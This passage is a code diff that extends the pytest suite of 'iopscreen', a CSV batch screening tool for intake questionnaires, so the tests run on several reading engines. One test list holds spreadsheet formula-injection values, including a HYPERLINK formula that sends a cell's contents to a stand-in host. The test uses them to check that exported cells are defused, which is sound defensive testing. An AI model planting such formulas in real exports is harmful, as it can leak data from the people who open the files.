@@ -3,6 +3,7 @@ and the property that batch screening equals screening each row on its own."""
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import io
 import json
@@ -18,7 +19,7 @@ from typing import Any
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from conftest import Engine, Reason
+from conftest import FALLBACK, Engine, Reason
 from reportcases import check_golden
 
 from iopscreen import batch, batch_input, batch_output
@@ -54,6 +55,15 @@ def batch_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str,
     return cli(capsys, "batch", "-r", MINIMAL, "--no-progress", *args)
 
 
+# Why the DuckDB engine hands an input to the python engine (see batch_duckdb.Unsuitable).
+ROWS = "not read as the header says"  # short or long rows, a quote it reads otherwise
+MESSY_READ = ROWS  # the messy export has short and long rows
+HEADER = "its header has problems"
+HEADER_LINE = "its header has quotes"
+ENCODING = ROWS  # DuckDB rejects a row with bytes that are not UTF-8
+LINES = "several lines"
+
+
 def batch_on(engine: Engine, capsys: pytest.CaptureFixture[str], *args: str,
              falls_back: Reason = None, rules: str | None = MINIMAL) -> tuple[int, str, str]:
     """`iopscreen batch` on ``engine`` (with the minimal rule set, or ``rules``; None: the
@@ -62,6 +72,12 @@ def batch_on(engine: Engine, capsys: pytest.CaptureFixture[str], *args: str,
     code, out, err = cli(capsys, "batch", *(["-r", rules] if rules else []), "--no-progress",
                          *engine.args, *args)
     return code, out, engine.checked(err, falls_back)
+
+
+def default_on(engine: Engine, capsys: pytest.CaptureFixture[str], *args: str,
+               falls_back: Reason = None) -> tuple[int, str, str]:
+    """:func:`batch_on` with the default rule set."""
+    return batch_on(engine, capsys, *args, falls_back=falls_back, rules=None)
 
 
 def leftovers(folder: Path) -> list[str]:
@@ -85,11 +101,12 @@ def test_the_fixture_is_really_messy() -> None:
     assert b"Some days" in raw and b";;;" in raw and b"Notes" in raw
 
 
+@pytest.mark.slow_engines
 def test_messy_export_gives_exact_rows_errors_and_exit_code(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     out, errors = tmp_path / "results.csv", tmp_path / "problems.csv"
-    code, stdout, err = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(out),
-                                  "--errors", str(errors))
+    code, stdout, err = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o", str(out),
+                                 "--errors", str(errors), falls_back=MESSY_READ)
     assert code == 1  # some rows had errors; the others are written all the same
     assert stdout == ""
     check_golden(BATCH / "messy.expected.csv", out.read_text(encoding="utf-8"))
@@ -109,22 +126,24 @@ def test_messy_export_gives_exact_rows_errors_and_exit_code(
     assert "Traceback" not in err
 
 
-def test_messy_values_are_not_echoed_unless_asked(capsys: pytest.CaptureFixture[str],
-                                                  tmp_path: Path) -> None:
-    code, _, err = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(tmp_path / "o.csv"))
+def test_messy_values_are_not_echoed_unless_asked(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+    code, _, err = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o",
+                            str(tmp_path / "o.csv"), falls_back=MESSY_READ)
     assert code == 1
     assert "E401 not-a-number: row 10 (id C-010), column drinks" in err
     assert "lots" not in err
-    code, _, err = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(tmp_path / "p.csv"),
-                             "--show-values")
+    code, _, err = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o",
+                            str(tmp_path / "p.csv"), "--show-values",
+                            falls_back="--show-values")
     assert "(got 'lots')" in err
 
 
-def test_unknown_column_is_an_error_and_nothing_is_written(capsys: pytest.CaptureFixture[str],
-                                                           tmp_path: Path) -> None:
+def test_unknown_column_is_an_error_and_nothing_is_written(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     out = tmp_path / "results.csv"
-    code, _, err = batch_cli(capsys, str(MESSY), "-o", str(out), "--errors",
-                             str(tmp_path / "e.csv"))
+    code, _, err = batch_on(engine, capsys, str(MESSY), "-o", str(out), "--errors",
+                            str(tmp_path / "e.csv"), falls_back=HEADER)
     assert code == 1
     col = MESSY.read_text(encoding="utf-8-sig").index("Notes") + 1
     assert f"{MESSY}:1:{col}: error E411 unknown-column: column 'Notes' is not a question" in err
@@ -137,12 +156,12 @@ def test_unknown_column_is_an_error_and_nothing_is_written(capsys: pytest.Captur
     ("id,,danger", [], "E411", "name the column or remove it"),
     ("id,danger", ["-d", ";"], "E413", "the header was read as one column: check the delimiter"),
 ])
-def test_header_problems_get_a_hint_that_fits(capsys: pytest.CaptureFixture[str],
-                                              tmp_path: Path, header: str, extra: list[str],
-                                              code: str, hint: str) -> None:
+def test_header_problems_get_a_hint_that_fits(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path, header: str,
+        extra: list[str], code: str, hint: str) -> None:
     data = tmp_path / "h.csv"
     data.write_text(f"{header}\nA,no,\n", encoding="utf-8")
-    exit_code, _, err = batch_cli(capsys, str(data), *extra)
+    exit_code, _, err = batch_on(engine, capsys, str(data), *extra, falls_back=HEADER)
     assert exit_code == 1 and code in err
     assert f"hint: {hint}" in err
 
@@ -150,29 +169,32 @@ def test_header_problems_get_a_hint_that_fits(capsys: pytest.CaptureFixture[str]
 @pytest.mark.parametrize("extra", [[], ["--ignore-extra"], ["--id-column", "C7"],
                                    ["--id-column", "client"]])
 def test_a_file_without_its_header_shows_none_of_its_cells(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path, extra: list[str]) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path,
+        extra: list[str]) -> None:
     """The first data row read as the header must not be echoed as unknown column names."""
     data = tmp_path / "n.csv"
     data.write_text("C7,yes,yes,PHIsecret,2\nC8,no,no,,0\n", encoding="utf-8")
-    code, out, err = cli(capsys, "batch", "--no-progress", str(data), *extra)
+    code, out, err = default_on(engine, capsys, str(data), *extra, falls_back=HEADER)
     assert code == 1 and out == ""
     assert "E413 no-header: no column name is a question of iop-adult 1.0.0: the first line " \
            "looks like data, not a header" in err
     assert "PHIsecret" not in err and "yes" not in err and "'2'" not in err
     if extra[-1:] != ["C7"]:
         assert "C7" not in err
-    code, _, err = cli(capsys, "batch", "--no-progress", str(data), *extra, "--show-values")
+    code, _, err = default_on(engine, capsys, str(data), *extra, "--show-values",
+                              falls_back="--show-values")
     assert code in (1, 2) and "looks like data" not in err  # asked for: the names are shown
     assert "yes" in err or "C7" in err
 
 
-def test_formats_carry_the_same_results(capsys: pytest.CaptureFixture[str],
-                                        tmp_path: Path) -> None:
+@pytest.mark.slow_engines
+def test_formats_carry_the_same_results(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     outs = {}
     for fmt in ("csv", "jsonl", "json"):
         outs[fmt] = tmp_path / f"r.{fmt}"
-        code, _, _ = batch_cli(capsys, str(MESSY), "--ignore-extra", "-f", fmt, "-o",
-                               str(outs[fmt]))
+        code, _, _ = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-f", fmt, "-o",
+                              str(outs[fmt]), falls_back=MESSY_READ)
         assert code == 1
     table = list(csv.DictReader(outs["csv"].open(encoding="utf-8")))
     lines = [json.loads(x) for x in outs["jsonl"].read_text().splitlines()]
@@ -189,21 +211,21 @@ def test_formats_carry_the_same_results(capsys: pytest.CaptureFixture[str],
         assert row["deciding_questions"] == "|".join(obj["deciding_questions"] or [])
 
 
-def test_json_array_of_no_rows_is_valid(capsys: pytest.CaptureFixture[str],
-                                        tmp_path: Path) -> None:
+def test_json_array_of_no_rows_is_valid(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     empty = write_csv(tmp_path / "empty.csv", [])
-    code, out, _ = batch_cli(capsys, str(empty), "-f", "json")
+    code, out, _ = batch_on(engine, capsys, str(empty), "-f", "json")
     assert code == 0 and json.loads(out) == []
 
 
 # --------------------------------------------------------------------- files and streams
 
 
-def test_stdin_to_stdout(capsys: pytest.CaptureFixture[str],
+def test_stdin_to_stdout(engine: Engine, capsys: pytest.CaptureFixture[str],
                          monkeypatch: pytest.MonkeyPatch) -> None:
     data = "id,danger,danger_plan\nA,yes,yes\nB,no,\n"
     monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data.encode())))
-    code, out, err = batch_cli(capsys, "-")
+    code, out, err = batch_on(engine, capsys, "-", falls_back="standard input")
     assert code == 0
     rows = list(csv.DictReader(io.StringIO(out)))
     assert [(r["id"], r["level"], r["crisis"]) for r in rows] == [("A", "high", "true"),
@@ -212,29 +234,31 @@ def test_stdin_to_stdout(capsys: pytest.CaptureFixture[str],
     assert "10 question(s) have no column and count as unanswered" in err
 
 
-def test_problems_to_stdout_with_a_dash(capsys: pytest.CaptureFixture[str],
-                                        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_problems_to_stdout_with_a_dash(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.chdir(tmp_path)
     data = write_csv(tmp_path / "d.csv", [["A", "maybe"], ["B", "no"]], header=["id", "danger"])
-    code, out, err = batch_cli(capsys, str(data), "-o", "r.csv", "-e", "-")
+    code, out, err = batch_on(engine, capsys, str(data), "-o", "r.csv", "-e", "-")
     assert code == 1 and not (tmp_path / "-").exists()
     problems = list(csv.DictReader(io.StringIO(out)))
     assert [(p["row"], p["code"]) for p in problems] == [("1", "E402")]
     assert "-> stdout" in err
-    code, _, err = batch_cli(capsys, str(data), "-e", "-")  # results on stdout too: refused
+    code, _, err = batch_on(engine, capsys, str(data), "-e", "-")  # results on stdout too: refused
     assert code == 2 and "cannot both go to stdout" in err
     assert not (tmp_path / "-").exists()
 
 
-def test_output_is_not_overwritten_without_force(capsys: pytest.CaptureFixture[str],
-                                                 tmp_path: Path) -> None:
+def test_output_is_not_overwritten_without_force(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     out = tmp_path / "results.csv"
     out.write_text("precious\n")
-    code, _, err = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(out))
+    code, _, err = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o", str(out))
     assert code == 2
     assert "already exists" in err and "--force" in err
     assert out.read_text() == "precious\n"
-    code, _, _ = batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(out), "--force")
+    code, _, _ = batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o", str(out), "--force",
+                          falls_back=MESSY_READ)
     assert code == 1 and out.read_text().startswith("row,Client ID,status")
 
 
@@ -251,10 +275,11 @@ def test_the_input_is_never_the_output(capsys: pytest.CaptureFixture[str],
     assert data.read_bytes() == before and not leftovers(tmp_path)
 
 
-def test_results_and_errors_are_owner_only(capsys: pytest.CaptureFixture[str],
-                                           tmp_path: Path) -> None:
+def test_results_and_errors_are_owner_only(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     out, errors = tmp_path / "r.csv", tmp_path / "e.csv"
-    batch_cli(capsys, str(MESSY), "--ignore-extra", "-o", str(out), "--errors", str(errors))
+    batch_on(engine, capsys, str(MESSY), "--ignore-extra", "-o", str(out), "--errors", str(errors),
+             falls_back=MESSY_READ)
     assert stat.S_IMODE(out.stat().st_mode) == 0o600
     assert stat.S_IMODE(errors.stat().st_mode) == 0o600
 
@@ -286,6 +311,34 @@ def test_ctrl_c_leaves_no_partial_file_and_exits_130(
     assert len(calls) == 5  # it stopped mid-stream
     assert not out.exists()
     assert errors.read_text() == "old problems\n"  # the old file is untouched
+    assert not leftovers(tmp_path)
+
+
+@pytest.mark.slow_engines
+def test_ctrl_c_on_any_engine_leaves_no_partial_file_and_exits_130(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path,
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """Ctrl-C (here: as the fifth problem is written, rows already out) ends the run with
+    nothing written, the old problems file untouched, no temporary file left, exit 130."""
+    data = write_csv(tmp_path / "big.csv", [[f"P{i}", "maybe"] for i in range(3000)],
+                     header=["id", "danger"])
+    real = batch_output.ProblemWriter.__call__
+    calls = []
+
+    def interrupted(self: batch_output.ProblemWriter, problem: Problem) -> None:
+        calls.append(1)
+        if len(calls) == 5:
+            raise KeyboardInterrupt
+        real(self, problem)
+
+    monkeypatch.setattr(batch_output.ProblemWriter, "__call__", interrupted)
+    out, errors = tmp_path / "results.csv", tmp_path / "problems.csv"
+    errors.write_text("old problems\n")
+    code, _, err = batch_on(engine, capsys, str(data), "-o", str(out), "--errors", str(errors),
+                            "--force")
+    assert code == 130 and len(calls) == 5
+    assert "interrupted: nothing written" in err and "Traceback" not in err
+    assert not out.exists() and errors.read_text() == "old problems\n"
     assert not leftovers(tmp_path)
 
 
@@ -349,52 +402,55 @@ def test_an_invalid_rule_set_exits_3(capsys: pytest.CaptureFixture[str], tmp_pat
 # ------------------------------------------------------------------------------ reading
 
 
-def test_encoding_errors_name_the_place_and_encoding(capsys: pytest.CaptureFixture[str],
-                                                    tmp_path: Path) -> None:
+def test_encoding_errors_name_the_place_and_encoding(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = tmp_path / "latin1.csv"
     data.write_bytes("id,comment\nA,ok\nB,caf\xe9 au lait\n".encode("latin-1"))
-    code, out, err = batch_cli(capsys, str(data))
+    code, out, err = batch_on(engine, capsys, str(data), falls_back=ENCODING)
     assert code == 1 and out == ""
     assert f"{data}:3:6: error E414 bad-encoding: the file is not valid UTF-8 (byte 0xe9" in err
     assert "--encoding" in err
-    code, out, _ = batch_cli(capsys, str(data), "--encoding", "latin-1")
+    code, out, _ = batch_on(engine, capsys, str(data), "--encoding", "latin-1",
+                            falls_back="read as")
     assert code == 0 and len(out.splitlines()) == 3
 
 
 def test_a_file_problem_after_rows_went_to_stdout_says_the_output_is_incomplete(
-        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
+        engine: Engine, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
         tmp_path: Path) -> None:
     data = tmp_path / "late.csv"
     rows = "".join(f"P{i},no\n" for i in range(20_000))
     data.write_bytes(f"id,danger\n{rows}B,caf\xe9\n".encode("latin-1"))
     monkeypatch.setattr(batch, "BLOCK_CHARS", 1000)  # the bad byte is read after rows went out
-    code, out, err = batch_cli(capsys, str(data))
+    code, out, err = batch_on(engine, capsys, str(data), falls_back=ENCODING)
     assert code == 1 and out.count("\n") > 1
     assert "stopped: the output on stdout is incomplete" in err and "E414 bad-encoding" in err
     out_file = tmp_path / "r.csv"
-    code, _, err = batch_cli(capsys, str(data), "-o", str(out_file))  # a file: nothing written
+    code, _, err = batch_on(engine, capsys, str(data), "-o", str(out_file),
+                            falls_back=ENCODING)  # to a file: nothing written
     assert code == 1 and not out_file.exists() and "incomplete" not in err
 
 
 def test_utf16_with_bom_and_tabs_is_read_as_excel_writes_it(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = tmp_path / "unicode.txt"
     data.write_bytes("id\tdanger\tdanger_plan\r\nA\tyes\tno\r\n".encode("utf-16"))
-    code, out, _ = batch_cli(capsys, str(data))
+    code, out, _ = batch_on(engine, capsys, str(data), falls_back="utf-16")
     assert code == 0
     assert list(csv.DictReader(io.StringIO(out)))[0]["fired_rules"] == "danger_no_plan"
 
 
-def test_utf16_named_but_without_its_bom_is_an_encoding_error(capsys: pytest.CaptureFixture[str],
-                                                             tmp_path: Path) -> None:
+def test_utf16_named_but_without_its_bom_is_an_encoding_error(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     """The UTF-16 codec raises a plain UnicodeError (not a decode error) for a missing BOM: it
     is a located bad-encoding problem, not an internal error (found by the fuzz suite)."""
     data = tmp_path / "u.csv"
     data.write_bytes("id,danger\nA,no\n".encode("utf-16-le"))
-    code, _, err = batch_cli(capsys, str(data), "--encoding", "utf-16")
+    code, _, err = batch_on(engine, capsys, str(data), "--encoding", "utf-16", falls_back="utf-16")
     assert code == 1 and "Traceback" not in err
     assert f"{data}:1:1: error E414 bad-encoding" in err and "utf-16-le or utf-16-be" in err
-    code, out, _ = batch_cli(capsys, str(data), "--encoding", "utf-16-le")
+    code, out, _ = batch_on(engine, capsys, str(data), "--encoding", "utf-16-le",
+                            falls_back="utf-16-le")
     assert code == 0 and out.count("\n") == 2
 
 
@@ -403,14 +459,16 @@ def test_an_unknown_encoding_is_a_usage_error(capsys: pytest.CaptureFixture[str]
     assert code == 2 and "unknown encoding 'klingon'" in err
 
 
+@pytest.mark.slow_engines
 @pytest.mark.parametrize("delimiter,flag", [(";", None), ("\t", None), ("|", None),
                                             (";", ";"), ("\t", "tab"), ("\t", "\\t")])
-def test_delimiters_are_found_or_given(capsys: pytest.CaptureFixture[str], tmp_path: Path,
-                                       delimiter: str, flag: str | None) -> None:
+def test_delimiters_are_found_or_given(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path, delimiter: str,
+        flag: str | None) -> None:
     data = tmp_path / "d.csv"
     data.write_text(delimiter.join(["id", "danger", "danger_plan", "concerns"]) + "\n"
                     + delimiter.join(["A", "yes", "yes", "cost,time"]) + "\n")
-    code, out, _ = batch_cli(capsys, str(data), *(["--delimiter", flag] if flag else []))
+    code, out, _ = batch_on(engine, capsys, str(data), *(["--delimiter", flag] if flag else []))
     assert code == 0
     row = next(csv.DictReader(io.StringIO(out)))
     assert row["level"] == "high" and row["misconceptions"] == "too_expensive"
@@ -421,28 +479,28 @@ def test_a_bad_delimiter_option_is_a_usage_error(capsys: pytest.CaptureFixture[s
     assert code == 2 and "--delimiter" in err
 
 
-def test_id_column_guess_option_and_absence(capsys: pytest.CaptureFixture[str],
-                                            tmp_path: Path) -> None:
+def test_id_column_guess_option_and_absence(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     both = write_csv(tmp_path / "both.csv", [["7", "A", "yes", "yes"]],
                      header=["case", "record_id", "danger", "danger_plan"])
-    code, out, err = batch_cli(capsys, str(both), "--ignore-extra")
+    code, out, err = batch_on(engine, capsys, str(both), "--ignore-extra")
     assert code == 0 and out.startswith("row,record_id,") and "column 'record_id'" in err
-    code, out, _ = batch_cli(capsys, str(both), "--id-column", "CASE", "--ignore-extra")
+    code, out, _ = batch_on(engine, capsys, str(both), "--id-column", "CASE", "--ignore-extra")
     assert code == 0 and out.startswith("row,case,") and "\n1,7,ok," in out
-    code, _, err = batch_cli(capsys, str(both), "--id-column", "caes")
+    code, _, err = batch_on(engine, capsys, str(both), "--id-column", "caes", falls_back=HEADER)
     assert code == 2 and "did you mean 'case'?" in err
     none = write_csv(tmp_path / "none.csv", [["yes", "yes"]], header=["danger", "danger_plan"])
-    code, out, err = batch_cli(capsys, str(none))
+    code, out, err = batch_on(engine, capsys, str(none))
     assert code == 0 and out.startswith("row,status,") and "no id column found" in err
     assert "row 1: no id" in err  # the crisis row, by number
 
 
-def test_duplicate_and_missing_ids_are_warnings(capsys: pytest.CaptureFixture[str],
-                                                tmp_path: Path) -> None:
+def test_duplicate_and_missing_ids_are_warnings(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = write_csv(tmp_path / "d.csv", [["A", "no"], ["B", "no"], [" A ", "no"], ["", "no"],
                                           ["B", "no"]], header=["id", "danger"])
     errors = tmp_path / "e.csv"
-    code, _, err = batch_cli(capsys, str(data), "--errors", str(errors))
+    code, _, err = batch_on(engine, capsys, str(data), "--errors", str(errors))
     assert code == 0  # every row screened
     problems = list(csv.DictReader(errors.open()))
     assert [(p["row"], p["line"], p["code"], p["message"]) for p in problems] == [
@@ -453,8 +511,9 @@ def test_duplicate_and_missing_ids_are_warnings(capsys: pytest.CaptureFixture[st
     assert "W411 x2" in err
 
 
+@pytest.mark.slow_engines
 def test_answers_skip_logic_drops_are_warned_and_safety_ones_listed(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     """Paper and spreadsheet data can answer a question the interview would not have asked:
     'no' to active thoughts, then 'yes' to intent and plan. Skip logic drops those answers
     (as in the interview), but never silently: each is a W412 warning, and rows where a dropped
@@ -466,8 +525,8 @@ def test_answers_skip_logic_drops_are_warned_and_safety_ones_listed(
     ], header=["id", "si_wish_dead", "si_active_thoughts", "si_intent", "si_plan", "ptsd_trauma",
                "ptsd_1"])
     errors = tmp_path / "e.csv"
-    code, out, err = cli(capsys, "batch", "--no-progress", str(data), "--errors", str(errors),
-                         "-o", str(tmp_path / "r.csv"))
+    code, out, err = default_on(engine, capsys, str(data), "--errors", str(errors),
+                                "-o", str(tmp_path / "r.csv"))
     assert code == 1  # a dropped safety answer is an input problem to check
     problems = list(csv.DictReader(errors.open()))
     assert [(p["row"], p["id"], p["column"], p["level"], p["code"]) for p in problems] == [
@@ -486,13 +545,13 @@ def test_answers_skip_logic_drops_are_warned_and_safety_ones_listed(
     # ... but the row says a person must look at it, in every format
     assert [r["safety_review"] for r in results] == ["true", "false", "false"]
     for fmt in ("jsonl", "json"):
-        code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "-f", fmt)
+        code, out, _ = default_on(engine, capsys, str(data), "-f", fmt)
         rows = (json.loads(out) if fmt == "json" else
                 [json.loads(x) for x in out.splitlines()])
         assert [r["safety_review"] for r in rows] == [True, False, False]
     # --allow-dropped-safety accepts them (exit 0); the rows are still marked and listed
-    code, _, err = cli(capsys, "batch", "--no-progress", str(data), "-o",
-                       str(tmp_path / "r2.csv"), "--allow-dropped-safety")
+    code, _, err = default_on(engine, capsys, str(data), "-o",
+                              str(tmp_path / "r2.csv"), "--allow-dropped-safety")
     assert code == 0 and "SAFETY REVIEW: 1 row(s)" in err
     assert "(allowed by --allow-dropped-safety)" in err
     assert (tmp_path / "r2.csv").read_text() == (tmp_path / "r.csv").read_text()
@@ -505,11 +564,12 @@ FORMULA_IDS = ['=HYPERLINK("http://x.example/?"&B2)', "+1", "-2", "@SUM(1)", "\t
 
 
 # a block screened at once (no CR in it), a block read by a csv reader, and a csv reader for all
-@pytest.mark.parametrize("id_header, ids", [("id", [i for i in FORMULA_IDS if "\r" not in i]),
-                                            ("id", FORMULA_IDS), ('"id"', FORMULA_IDS)])
-def test_csv_cells_that_echo_input_never_start_a_formula(capsys: pytest.CaptureFixture[str],
-                                                         tmp_path: Path, id_header: str,
-                                                         ids: list[str]) -> None:
+@pytest.mark.parametrize("id_header, ids, duckdb_reads", [
+    ("id", [i for i in FORMULA_IDS if "\r" not in i], None),
+    ("id", FORMULA_IDS, "lone CR"), ('"id"', FORMULA_IDS, HEADER_LINE)])
+def test_csv_cells_that_echo_input_never_start_a_formula(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path, id_header: str,
+        ids: list[str], duckdb_reads: str | None) -> None:
     """Ids (and the problems file's text) that a spreadsheet would run as formulas get a
     leading ' (OWASP); --raw-csv and JSON keep them as they are; our own cells are untouched."""
     data = tmp_path / "f.csv"
@@ -517,16 +577,17 @@ def test_csv_cells_that_echo_input_never_start_a_formula(capsys: pytest.CaptureF
                    for n, i in enumerate(ids))
     data.write_text(f"{id_header},si_active_thoughts,si_intent\n{body}", encoding="utf-8")
     errors = tmp_path / "e.csv"
-    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "-e", str(errors))
+    code, out, _ = default_on(engine, capsys, str(data), "-e", str(errors),
+                              falls_back=duckdb_reads)
     assert code == 1
     rows = list(csv.DictReader(io.StringIO(out)))
     assert [r["id"] for r in rows] == [("'" if i[0] in "=+-@\t\r" else "") + i for i in ids]
     assert {r["ruleset_id"] for r in rows} == {"iop-adult"}
     problems = list(csv.DictReader(errors.open(newline="")))
     assert [p["id"] for p in problems] == ["'@SUM(1)"]
-    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "--raw-csv")
+    code, out, _ = default_on(engine, capsys, str(data), "--raw-csv", falls_back=duckdb_reads)
     assert [r["id"] for r in csv.DictReader(io.StringIO(out))] == ids
-    code, out, _ = cli(capsys, "batch", "--no-progress", str(data), "-f", "jsonl")
+    code, out, _ = default_on(engine, capsys, str(data), "-f", "jsonl", falls_back=duckdb_reads)
     assert [json.loads(x)["id"] for x in out.splitlines()] == ids
 
 
@@ -537,14 +598,15 @@ def _csv_line(*cells: str) -> str:
     return buffer.getvalue()[:-2]
 
 
+@pytest.mark.slow_engines
 def test_short_rows_are_read_with_blank_cells_and_screened(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     """Spreadsheet exports leave out empty cells at the end of a row: the row is read with them
     blank, screened (a crisis in it is flagged) and warned about by row."""
     data = tmp_path / "s.csv"
     data.write_text("id,si_active_thoughts,si_intent,si_plan,phq9_9\nA,yes,yes,yes\n"
                     "B,yes,yes,yes,0\nC,no\n", encoding="utf-8")
-    code, out, err = cli(capsys, "batch", "--no-progress", str(data))
+    code, out, err = default_on(engine, capsys, str(data), falls_back=ROWS)
     assert code == 0  # a warning: every row screened
     rows = list(csv.DictReader(io.StringIO(out)))
     assert [(r["id"], r["status"], r["crisis"]) for r in rows] == [
@@ -554,8 +616,9 @@ def test_short_rows_are_read_with_blank_cells_and_screened(
     assert "W413 short-row: row 3 (id C)" in err and "row 2 (id B)" not in err
 
 
+@pytest.mark.slow_engines
 def test_long_rows_are_error_rows_still_checked_for_crisis(
-        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     """A row with more cells than the header cannot be matched to the columns: it is an error
     row, but its cells are checked for a crisis under every way they could line up (the extra
     cells one run anywhere), and every such row is listed for a person to check."""
@@ -566,7 +629,7 @@ def test_long_rows_are_error_rows_still_checked_for_crisis(
         ["D", "no", "", "", "0"],
     ], header=SAFETY_HEADER)
     out = tmp_path / "r.csv"
-    code, _, err = cli(capsys, "batch", "--no-progress", str(data), "-o", str(out))
+    code, _, err = default_on(engine, capsys, str(data), "-o", str(out), falls_back=ROWS)
     assert code == 1
     rows = list(csv.DictReader(out.open()))
     assert [(r["status"], r["errors"], r["crisis"], r["safety_review"], r["flags"], r["level"])
@@ -582,7 +645,7 @@ def test_long_rows_are_error_rows_still_checked_for_crisis(
     assert "row 3: id C: possible crisis: row malformed, check the source" in review
     assert "E410 wrong-field-count: row 1 (id A): the row has 6 fields" in err
     for fmt in ("jsonl", "json"):
-        code, text, _ = cli(capsys, "batch", "--no-progress", str(data), "-f", fmt)
+        code, text, _ = default_on(engine, capsys, str(data), "-f", fmt, falls_back=ROWS)
         objs = json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
         assert [(o["crisis"], o["safety_review"], o["flags"]) for o in objs] == [
             (True, True, ["crisis"]), (True, True, ["crisis"]), (None, True, None),
@@ -591,8 +654,8 @@ def test_long_rows_are_error_rows_still_checked_for_crisis(
 
 
 @pytest.mark.parametrize("with_id", [True, False])
-def test_every_csv_result_row_has_the_header_s_length(capsys: pytest.CaptureFixture[str],
-                                                      tmp_path: Path, with_id: bool) -> None:
+def test_every_csv_result_row_has_the_header_s_length(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path, with_id: bool) -> None:
     """ok, invalid-cell, short, long and blank-id rows: every CSV line has as many cells as the
     header, so no column is shifted (a long row's line was one short)."""
     rows = [["A", "no", "no", "", "", "", ""], ["B", "no"], ["C", "no", "no", "x", "", "", "", "+"],
@@ -602,7 +665,7 @@ def test_every_csv_result_row_has_the_header_s_length(capsys: pytest.CaptureFixt
     if not with_id:
         header, rows = header[1:], [r[1:] for r in rows]
     data = write_csv(tmp_path / "w.csv", rows, header=header)
-    code, out, _ = cli(capsys, "batch", "--no-progress", str(data))
+    code, out, _ = default_on(engine, capsys, str(data), falls_back=ROWS)
     assert code == 1
     table = list(csv.reader(io.StringIO(out)))
     assert len(table) == 6 and {len(r) for r in table} == {len(table[0])}
@@ -629,23 +692,25 @@ def test_duplicates_are_found_the_same_across_many_buckets(monkeypatch: pytest.M
     assert [p.row for p in many] == sorted(p.row for p in many)
 
 
-def test_empty_input_and_header_only(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
+def test_empty_input_and_header_only(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     empty = tmp_path / "empty.csv"
     empty.write_text("")
-    code, _, err = batch_cli(capsys, str(empty))
+    code, _, err = batch_on(engine, capsys, str(empty), falls_back=HEADER_LINE)
     assert code == 1 and "E413 no-header" in err
     header = write_csv(tmp_path / "header.csv", [])
-    code, out, err = batch_cli(capsys, str(header))
+    code, out, err = batch_on(engine, capsys, str(header))
     assert code == 0 and out.count("\n") == 1 and "0 row(s) screened" in err
 
 
-def test_utf16_without_bom_is_recognised(capsys: pytest.CaptureFixture[str],
-                                         tmp_path: Path) -> None:
+def test_utf16_without_bom_is_recognised(
+        engine: Engine, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
     data = tmp_path / "u16.csv"
     data.write_bytes("id,danger\nA,no\n".encode("utf-16-le"))
-    code, _, err = batch_cli(capsys, str(data))
+    code, _, err = batch_on(engine, capsys, str(data), falls_back=HEADER_LINE)
     assert code == 1 and "E414 bad-encoding" in err and "--encoding utf-16" in err
-    code, out, _ = batch_cli(capsys, str(data), "--encoding", "utf-16-le")
